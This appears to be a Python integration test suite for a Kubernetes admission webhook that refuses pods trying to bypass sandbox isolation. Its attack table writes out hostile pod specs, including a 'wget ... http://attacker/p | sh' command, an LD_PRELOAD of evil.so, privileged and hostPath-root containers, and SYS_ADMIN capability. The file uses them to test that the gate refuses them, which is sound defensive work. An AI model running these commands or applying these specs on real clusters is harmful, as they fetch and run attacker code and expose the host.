"""A pod is its Component's code: each attack of docs/security.md's bypass table, made as an attacker with
pod-create rights would, through the repository's test API server with the installed chart's webhook
configurations (manifests/isolation-gate.yaml) and the chart's args. The API server refuses each one with the
gate's message, and the gate counts it under its own reason; the legitimate shapes go through.

docs/security.md names these tests.
"""

import copy
import json
import os
import re
import unittest

import harness as h
import test_cluster as tc
import test_install as ti

DOCS_IMAGE = h.component_image("docs-indexer")      # trusted: in-process while the sandbox is down
PARSER_IMAGE = h.component_image("report-parser")   # untrusted
SIDECAR = "registry.example.com/mesh/proxy:1.0"

# A trusted Component that declares what its pods run besides the image.
DECLARED = {
    "apiVersion": "gibson.zeroroot.ai/v1alpha1", "kind": "Component",
    "metadata": {"name": "declared-tool", "namespace": ti.NS},
    "spec": {"kind": "tool", "image": DOCS_IMAGE, "args": ["--serve", "--port=8080"],
             "exec": [{"command": ["/bin/healthcheck", "--quick"]}],
             "policy": {"content_trust": "trusted"}},
}

ENTRYPOINT = "where a pod runs only what its Component declares"
LOADER = "where nothing may load code the Component does not declare"
HOST = "where a pod may not reach the host"

# (name, change to the pod's spec or its first container, reason, what the message says)
ATTACKS = [
    ("own command", lambda s, c: c.update(command=["sh", "-c", "wget -qO- http://attacker/p | sh"]),
     "EntrypointNotBound", [ENTRYPOINT, 'container "main" sets command ["sh","-c","wget -qO- http://attacker/p | sh"]']),
    ("own args", lambda s, c: c.update(args=["--eval", "payload"]), "EntrypointNotBound",
     [ENTRYPOINT, 'sets args ["--eval","payload"]']),
    ("postStart exec hook", lambda s, c: c.update(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "x"]}}}),
     "EntrypointNotBound", [ENTRYPOINT, "in lifecycle.postStart.exec"]),
    ("liveness exec probe", lambda s, c: c.update(livenessProbe={"exec": {"command": ["sh", "-c", "y"]}}),
     "EntrypointNotBound", [ENTRYPOINT, "in livenessProbe.exec"]),
    ("LD_PRELOAD from a ConfigMap volume",
     lambda s, c: (c.update(env=[{"name": "LD_PRELOAD", "value": "/cfg/evil.so"}],
                            volumeMounts=[{"name": "cfg", "mountPath": "/cfg"}]),
                   s.update(volumes=[{"name": "cfg", "configMap": {"name": "evil"}}])),
     "LoaderEnvNotAllowed", [LOADER, 'container "main" sets env LD_PRELOAD']),
    ("envFrom", lambda s, c: c.update(envFrom=[{"configMapRef": {"name": "evil"}}]), "LoaderEnvNotAllowed",
     [LOADER, 'container "main" takes envFrom']),
    ("image volume", lambda s, c: s.update(volumes=[{"name": "tools", "image": {"reference": "evil.example/t:1"}}]),
     "ImageNotBound", ['image volume "tools" mounts "evil.example/t:1"']),
    ("privileged", lambda s, c: c.update(securityContext={"privileged": True}), "HostAccessOutsideMicroVM",
     [HOST, 'privileged container "main"']),
    ("hostPID", lambda s, c: s.update(hostPID=True), "HostAccessOutsideMicroVM", [HOST, "hostPID"]),
    ("hostNetwork", lambda s, c: s.update(hostNetwork=True), "HostAccessOutsideMicroVM", [HOST, "hostNetwork"]),
    ("hostPath /", lambda s, c: s.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
     "HostAccessOutsideMicroVM", [HOST, 'hostPath volume "root"']),
    ("SYS_ADMIN", lambda s, c: c.update(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
     "HostAccessOutsideMicroVM", [HOST, 'capability SYS_ADMIN added to container "main"']),
    ("sidecar images only", lambda s, c: c.update(image=SIDECAR), "ImageNotBound",
     ["no container runs the Component's image"]),
]


def pod(name, component="docs-indexer", image=DOCS_IMAGE, change=None):
    p = {"apiVersion": "v1", "kind": "Pod",
         "metadata": {"name": name, "namespace": ti.NS, "labels": {h.COMPONENT_LABEL: component}},
         "spec": {"containers": [{"name": "main", "image": image}]}}
    if change:
        change(p["spec"], p["spec"]["containers"][0])
    return p


class InstalledAttacks(ti.InstallCase):
    """The chart's install (allowedExtraImages set to one sidecar image), team-a enforced; users: `dev`
    (system:authenticated) and `root` (system:masters, the chart's default enforcement and trust admin)."""

    def setUp(self):
        super().setUp()
        self.api.add_user("dev-token", "dev", ["system:authenticated"])
        self.api.add_user("root-token", "root", ["system:masters", "system:authenticated"])
        self.api.create("components", copy.deepcopy(DECLARED), namespace=ti.NS)
        # --set allowedExtraImages={SIDECAR} renders exactly this argument.
        self.args = self.args + ["--allowed-extra-images=" + SIDECAR]
        self.dev = self._client("dev-token")
        self.root = self._client("root-token")

    def custom(self, token):
        import kubernetes
        c = kubernetes.client.Configuration()
        c.host = self.api.url
        c.ssl_ca_cert = self.api_ca
        c.api_key = {"authorization": "Bearer " + token}
        client = kubernetes.client.ApiClient(c)
        self.addCleanup(client.close)
        return kubernetes.client.CustomObjectsApi(client)

    def start_installed(self, sandbox):
        if not sandbox:
            self.api.delete("nodes", "node-1")  # no Node can run the RuntimeClass: unavailable
        self.gate_server = self.start_gate_from_chart()
        tc.wait_until("both configurations applied", lambda: None not in self.configurations())

    def create(self, client, p):
        return self.api_call(client.create_namespaced_pod, ti.NS, p)

    def reasons(self):
        """Reviews counted by reason in the gate's /metrics (every endpoint)."""
        text = self.gate_server.probe("GET", "/metrics", timeout=5).body.decode()
        out = {}
        for m in re.finditer(r'^isolation_gate_admission_reviews_total\{[^}]*reason="([A-Za-z]+)"[^}]*\} (\d+)$',
                             text, re.M):
            out[m.group(1)] = out.get(m.group(1), 0) + int(m.group(2))
        return out

    def assert_refused(self, status, msg, *needles):
        self.assertEqual(status, 403, msg)
        self.assertIn("admission webhook", msg)
        self.assertIn("gibson.zeroroot.ai\" denied the request", msg)
        for n in needles:
            self.assertIn(n, msg)

    def test_every_attack_outside_a_microvm_is_refused_and_the_declared_shapes_admitted(self):
        self.start_installed(sandbox=False)
        for i, (name, change, reason, needles) in enumerate(ATTACKS):
            with self.subTest(attack=name):
                before = self.reasons().get(reason, 0)
                status, msg = self.create(self.dev, pod("attack-%d" % i, change=change))
                self.assert_refused(status, msg, *needles)
                self.assertGreater(self.reasons().get(reason, 0), before, reason)

        # The same attack as a Deployment: `evaluate` (and /validate/workloads, which shares its rules; the test
        # API server serves no apps/v1) refuses it with the same reason.
        template = pod("x", change=ATTACKS[0][1])
        deployment = {"apiVersion": "apps/v1", "kind": "Deployment",
                      "metadata": {"name": "attack", "namespace": ti.NS},
                      "spec": {"selector": {"matchLabels": {"app": "a"}},
                               "template": {"metadata": {"labels": dict(template["metadata"]["labels"], app="a")},
                                            "spec": template["spec"]}}}
        with open(os.path.join(self.tmp, "deployment.json"), "w") as f:
            json.dump(deployment, f)
        r = h.run_binary(["evaluate", "--component", os.path.join(h.EXAMPLE_COMPONENTS, "docs-indexer.yaml"),
                          "--pod", f.name, "--sandbox", "unavailable", "--output", "json"], timeout=30)
        self.assertEqual(r.returncode, 1, r.stderr)
        out = json.loads(r.stdout)
        self.assertEqual(out["reason"], "EntrypointNotBound", out)
        self.assertIn("its pods would be denied", out["message"])

        # The legitimate shapes: declared args and exec probe, an httpGet probe, a sidecar on the allowed image.
        def declared(s, c):
            c.update(args=["--serve", "--port=8080"],
                     readinessProbe={"exec": {"command": ["/bin/healthcheck", "--quick"]}},
                     livenessProbe={"httpGet": {"path": "/healthz", "port": 8080}},
                     env=[{"name": "LOG_LEVEL", "value": "debug"}])
            s["containers"].append({"name": "proxy", "image": SIDECAR, "args": ["proxy", "sidecar"]})
        status, msg = self.create(self.dev, pod("declared-0", component="declared-tool", change=declared))
        self.assertEqual(status, 200, msg)
        stored = self.api.get("pods", "declared-0", namespace=ti.NS)
        self.assertEqual(stored["metadata"]["annotations"]["gibson.zeroroot.ai/isolation"], "AllowInProcess")
        self.assertIsNone(stored["spec"].get("runtimeClassName"))

        # kubectl debug on the running in-process pod: refused for dev; an enforcement admin may, never privileged.
        debugger = {"name": "debugger", "image": DOCS_IMAGE}
        patch = [{"op": "add", "path": "/spec/ephemeralContainers", "value": [debugger]}]
        status, msg = self.api_call(self.dev.patch_namespaced_pod_ephemeralcontainers, "declared-0", ti.NS, patch)
        self.assert_refused(status, msg, 'ephemeral container "debugger"', 'user "dev" is not an enforcement admin')
        sysadmin = dict(debugger, securityContext={"privileged": True})  # kubectl debug --profile=sysadmin
        status, msg = self.api_call(self.root.patch_namespaced_pod_ephemeralcontainers, "declared-0", ti.NS,
                                    [{"op": "add", "path": "/spec/ephemeralContainers", "value": [sysadmin]}])
        self.assert_refused(status, msg, HOST, 'privileged container "ephemeral:debugger"')
        status, msg = self.api_call(self.root.patch_namespaced_pod_ephemeralcontainers, "declared-0", ti.NS, patch)
        self.assertEqual(status, 200, msg)
        reasons = self.reasons()
        self.assertGreaterEqual(reasons.get("EphemeralContainerRefused", 0), 1, reasons)

    def test_nothing_in_a_sandboxed_pod_reaches_the_host(self):
        self.start_installed(sandbox=True)
        for name, change, needle in (
                ("hostPath", lambda s, c: s.update(volumes=[{"name": "m", "hostPath": {"path": "/etc/kubernetes/manifests"}}]),
                 'hostPath volume "m"'),
                ("kata annotation", None, 'annotation "io.katacontainers.config.hypervisor.path"')):
            with self.subTest(case=name):
                p = pod("sandboxed-" + name.split()[0].lower(), component="report-parser", image=PARSER_IMAGE,
                        change=change)
                if change is None:
                    p["metadata"]["annotations"] = {"io.katacontainers.config.hypervisor.path": "/tmp/qemu"}
                p["spec"]["containers"][0]["args"] = ["--input", "/reports"]
                status, msg = self.create(self.dev, p)
                self.assert_refused(status, msg, "which cannot provide", needle)
        # An undeclared entrypoint runs in the microVM, with a warning about the day the sandbox goes away.
        mark = len(self.api.webhook_calls())
        p = pod("sandboxed-ok", component="report-parser", image=PARSER_IMAGE,
                change=lambda s, c: c.update(args=["--other"]))
        status, msg = self.create(self.dev, p)
        self.assertEqual(status, 200, msg)
        self.assertEqual(self.api.get("pods", "sandboxed-ok", namespace=ti.NS)["spec"]["runtimeClassName"], tc.RC)
        warnings = [w for c in self.api.webhook_calls(since=mark) for w in (c.get("warnings") or [])]
        self.assertTrue(any("would be denied if the sandbox went away" in w for w in warnings), warnings)

    def test_trust_is_loosened_only_by_an_admin_and_every_change_is_an_event(self):
        self.start_installed(sandbox=False)
        dev, root = self.custom("dev-token"), self.custom("root-token")
        args = ("gibson.zeroroot.ai", "v1alpha1", ti.NS, "components")
        loosen = {"spec": {"policy": {"content_trust": "trusted"}}}
        status, msg = self.api_call(dev.patch_namespaced_custom_object, *args, "report-parser", loosen)
        self.assert_refused(status, msg, 'user "dev" is not in a trust-admin group', "system:masters")
        status, msg = self.api_call(dev.patch_namespaced_custom_object, *args, "report-parser",
                                    {"spec": {"policy": {"content_trust": None}}})
        self.assert_refused(status, msg, "is not in a trust-admin group")
        self.assertEqual(self.api.get("components", "report-parser", namespace=ti.NS)
                         ["spec"]["policy"]["content_trust"], "untrusted")
        # Tightening is anyone's.
        status, msg = self.api_call(dev.patch_namespaced_custom_object, *args, "declared-tool",
                                    {"spec": {"policy": {"content_trust": "untrusted"}}})
        self.assertEqual(status, 200, msg)
        # An admin loosens, with its Event on the Component.
        status, msg = self.api_call(root.patch_namespaced_custom_object, *args, "report-parser", loosen)
        self.assertEqual(status, 200, msg)
        self.assertEqual(self.api.get("components", "report-parser", namespace=ti.NS)
                         ["spec"]["policy"]["content_trust"], "trusted")

        def events(reason):
            return [e for e in self.api.list("events.events.k8s.io", namespace=ti.NS) if e.get("reason") == reason]
        loosened = tc.wait_until("the ContentTrustLoosenedByAdmin Event",
                                 lambda: events("ContentTrustLoosenedByAdmin"))
        self.assertEqual(loosened[0]["regarding"]["kind"], "Component")
        self.assertEqual(loosened[0]["regarding"]["name"], "report-parser")
        self.assertIn('requested by "root"', loosened[0]["note"])
        refused = tc.wait_until("the ContentTrustChangeRefused Event", lambda: events("ContentTrustChangeRefused"))
        self.assertEqual(refused[0]["type"], "Warning")
        tc.wait_until("the ContentTrustTightened Event", lambda: events("ContentTrustTightened"))
        reasons = self.reasons()
        for reason in ("ContentTrustChangeRefused", "ContentTrustLoosenedByAdmin", "ContentTrustTightened"):
            self.assertGreaterEqual(reasons.get(reason, 0), 1, reasons)
        logs = [l for l in self.gate_server.log_lines() if l.get("msg") == "component content trust loosened"]
        self.assertEqual(len(logs), 1, logs)


class InstalledScopes(ti.InstallCase):
    """Component pods are decided in every namespace, not only enforced ones (docs/operations.md, "Where the
    gate applies"): component code does not decide where it runs."""

    def test_a_pod_naming_a_component_is_decided_outside_enforced_namespaces(self):
        self.api.add_user("dev-token", "dev", ["system:authenticated"])
        dev = self._client("dev-token")
        self.api.create("namespaces", {"metadata": {"name": "team-b"}})  # not enforced
        untrusted = tc.component("report-parser", "untrusted", namespace="team-b")
        self.api.create("components", untrusted, namespace="team-b")
        self.api.delete("nodes", "node-1")  # the sandbox is unavailable: untrusted is denied (hosted)
        self.start_gate_from_chart()
        tc.wait_until("both configurations applied", lambda: None not in self.configurations())

        def create(name, component=None, namespace="team-b"):
            p = pod(name, component=component or "x", image=PARSER_IMAGE,
                    change=lambda s, c: c.update(args=["--input", "/reports"]))
            p["metadata"]["namespace"] = namespace
            if component is None:
                del p["metadata"]["labels"]
            return self.api_call(dev.create_namespaced_pod, namespace, p)

        mark = len(self.api.webhook_calls())
        status, msg = create("claims-untrusted", component="report-parser")
        self.assert_refused_scope(status, msg, "component \"report-parser\"", "untrusted code has nowhere safe to run")
        status, msg = create("claims-nothing-known", component="no-such-component")
        self.assert_refused_scope(status, msg, "which does not exist in namespace \"team-b\"")
        # Unlabelled pods there never reach the gate; nor do pods in the never-enforced namespaces.
        status, msg = create("plain")
        self.assertEqual(status, 200, msg)
        self.api.get("namespaces", "kube-system") or self.api.create("namespaces", {"metadata": {"name": "kube-system"}})
        status, msg = create("system", component="report-parser", namespace="kube-system")
        self.assertEqual(status, 200, msg)
        called = {(c["namespace"], c["objectName"]) for c in self.api.webhook_calls(since=mark)}
        self.assertIn(("team-b", "claims-untrusted"), called)
        self.assertNotIn(("team-b", "plain"), called)
        self.assertNotIn(("kube-system", "system"), called)
        names = {c["name"] for c in self.api.webhook_calls(since=mark)}
        self.assertIn("component-pods.mutate.gibson.zeroroot.ai", names)

    def assert_refused_scope(self, status, msg, *needles):
        self.assertEqual(status, 403, msg)
        self.assertIn('admission webhook "component-pods.mutate.gibson.zeroroot.ai" denied the request', msg)
        for n in needles:
            self.assertIn(n, msg)


class SidecarPatterns(unittest.TestCase):
    def test_registry_wide_patterns_are_refused_at_start(self):
        for pattern in ("docker.io/*", "ghcr.io/*", "library/*", "docker.io/library/*"):
            with self.subTest(pattern=pattern):
                r = h.run_binary(["serve", "--check-config", "--local", "--components", h.EXAMPLE_COMPONENTS,
                                  "--allowed-extra-images", pattern], timeout=30)
                self.assertEqual(r.returncode, 2, r.stdout + r.stderr)
                self.assertIn("registry-wide patterns are refused", r.stderr.decode())


if __name__ == "__main__":
    unittest.main()
